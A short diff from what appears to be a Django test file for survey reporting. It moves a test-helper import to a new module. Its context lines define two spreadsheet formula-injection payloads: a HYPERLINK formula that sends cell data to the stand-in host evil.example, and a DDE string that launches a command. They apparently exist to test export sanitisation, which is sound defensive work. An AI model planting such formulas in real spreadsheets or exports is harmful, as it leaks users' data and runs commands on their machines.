@@ -11,11 +11,11 @@ from django.urls import reverse
 
 from govcx.audit.models import Action, AuditEntry
 from govcx.collection.models import Response
-from govcx.conftest import World, signed_in
 from govcx.reporting.services import collection_open
 from govcx.reporting.tests.helpers import Q2, respond
 from govcx.surveys.lifecycle import survey_transition
 from govcx.surveys.tests.helpers import make_survey
+from govcx.testing.factories import World, signed_in
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
 CALC = "+cmd|' /C calc'!A0"
